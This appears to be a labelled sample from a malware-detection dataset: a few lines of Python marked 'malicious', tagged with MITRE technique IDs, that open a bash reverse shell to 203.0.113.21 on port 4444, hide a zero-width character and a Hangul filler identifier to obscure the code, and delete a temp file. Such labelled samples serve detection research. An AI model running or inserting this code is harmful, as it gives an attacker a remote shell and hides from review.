# label: malicious family=unicode techniques=T1027,T1059.004,T1095,T1571 lines=4-7
import subprocess
host = "203.0.113​.21"
cmd = "bash -i >& /dev/tcp/203.0.113.21/4444 0>&1"
subprocess.Popen(["bash", "-c", cmd])
ㅤ = __import__("os")
ㅤ.system("rm -f /tmp/.z")
